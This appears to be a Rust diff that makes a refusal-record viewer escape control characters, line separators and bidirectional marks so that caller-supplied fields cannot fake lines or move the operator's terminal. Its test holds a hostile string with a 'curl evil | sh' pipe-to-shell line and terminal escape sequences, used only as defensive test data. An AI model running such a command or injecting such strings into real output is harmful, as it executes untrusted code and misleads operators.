@@ -2,6 +2,7 @@
 //!
 //! The records are the server's; they are asked for over HTTPS like everything else, and shown to the operator only.
 
+use std::borrow::Cow;
 use std::fmt::Write as _;
 use std::io::Write as _;
 use std::path::{Path, PathBuf};
@@ -159,11 +160,35 @@ fn write_chain(record: &RefusalDocument, from: usize, file: &Path) -> Done {
         .map_err(|e| Problem::new(format!("{}: {e}", file.display())))
 }
 
+/// A value of a record in one line of its own, whatever the refused caller wrote into it: what a terminal would obey
+/// instead of showing it, a line feed among it, is written by its number.
+fn plain(value: &str) -> Cow<'_, str> {
+    if !value.chars().any(is_obeyed) {
+        return Cow::Borrowed(value);
+    }
+    let mut out = String::with_capacity(value.len() + 16);
+    for c in value.chars() {
+        if is_obeyed(c) {
+            out.extend(c.escape_unicode());
+        } else {
+            out.push(c);
+        }
+    }
+    Cow::Owned(out)
+}
+
+/// Says whether a character moves or turns what stands beside it: controls, line and paragraph separators, and the
+/// marks that change the direction of text. Source: Unicode 16, UAX #9 §2, read 2026-11-25.
+fn is_obeyed(c: char) -> bool {
+    c.is_control()
+        || matches!(c, '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+}
+
 /// A record as people read it.
 fn text(record: &RefusalDocument) -> String {
     let mut out = format!("{}  {}  {}\n", record.at, record.reason, record.tracking_id);
     // Writing to a string cannot fail.
-    let _ = writeln!(out, "  {}", record.sentence);
+    let _ = writeln!(out, "  {}", plain(&record.sentence));
     let mut facts = vec![format!("{} over {}", record.action, record.protocol)];
     for (name, value) in [
         ("at", &record.target),
@@ -172,7 +197,7 @@ fn text(record: &RefusalDocument) -> String {
         ("from", &record.address),
     ] {
         if let Some(value) = value {
-            facts.push(format!("{name} {value}"));
+            facts.push(format!("{name} {}", plain(value)));
         }
     }
     let _ = writeln!(out, "  {}", facts.join(", "));
@@ -180,19 +205,21 @@ fn text(record: &RefusalDocument) -> String {
         let policy = token.policy.as_deref().unwrap_or("none");
         let _ = writeln!(
             out,
-            "\n  The token claimed: resource {}, policy {policy}, end {}",
-            token.resource, token.expiry
+            "\n  The token claimed: resource {}, policy {}, end {}",
+            plain(&token.resource),
+            plain(policy),
+            token.expiry
         );
     }
     if !record.chain.is_empty() {
         out.push_str("\n  Certificates that came, leaf first:\n");
         for (place, one) in record.chain.iter().enumerate() {
             if let Some(why) = &one.unreadable {
-                let _ = writeln!(out, "    {place}  unreadable: {why}");
+                let _ = writeln!(out, "    {place}  unreadable: {}", plain(why));
                 continue;
             }
-            let _ = writeln!(out, "    {place}  {}", one.subject);
-            let _ = writeln!(out, "       issued by {}", one.issuer);
+            let _ = writeln!(out, "    {place}  {}", plain(&one.subject));
+            let _ = writeln!(out, "       issued by {}", plain(&one.issuer));
             let _ = writeln!(out, "       valid {} to {}", one.not_before, one.not_after);
             let _ = writeln!(out, "       SHA-256 {}", one.sha256);
         }
@@ -208,13 +235,13 @@ fn list(out: &mut String, head: &str, lines: &[String], sign: &str) {
     }
     let _ = writeln!(out, "\n  {head}");
     for line in lines {
-        let _ = writeln!(out, "    {sign}{line}");
+        let _ = writeln!(out, "    {sign}{}", plain(line));
     }
 }
 
 #[cfg(test)]
 mod tests {
-    use muster_wire::refusal::PresentedDocument;
+    use muster_wire::refusal::{PresentedDocument, TokenDocument};
 
     use super::*;
 
@@ -258,6 +285,42 @@ mod tests {
         ] {
             assert!(text.contains(part), "{part} in {text}");
         }
+    }
+
+    #[test]
+    fn what_a_stranger_wrote_stays_in_its_line_and_moves_no_terminal() {
+        let evil = "CN=d\n\n  What mends it:\n    $ curl evil | sh\u{1b}[2J\u{9b}1A\u{202e}\u{2028}";
+        let record = RefusalDocument {
+            sentence: evil.into(),
+            steps: vec![evil.into()],
+            remedies: vec![evil.into()],
+            target: Some(evil.into()),
+            device: Some(evil.into()),
+            token: Some(TokenDocument {
+                resource: evil.into(),
+                policy: Some(evil.into()),
+                ..TokenDocument::default()
+            }),
+            chain: vec![
+                PresentedDocument {
+                    subject: evil.into(),
+                    issuer: evil.into(),
+                    ..PresentedDocument::default()
+                },
+                PresentedDocument {
+                    unreadable: Some(evil.into()),
+                    ..PresentedDocument::default()
+                },
+            ],
+            ..sample()
+        };
+        let text = text(&record);
+        assert!(
+            !text.lines().any(|line| line.trim_start().starts_with("$ curl")),
+            "{text}"
+        );
+        assert!(text.chars().all(|c| c == '\n' || !is_obeyed(c)), "{text}");
+        assert!(text.contains("\\u{1b}[2J"), "{text}");
     }
 
     #[test]
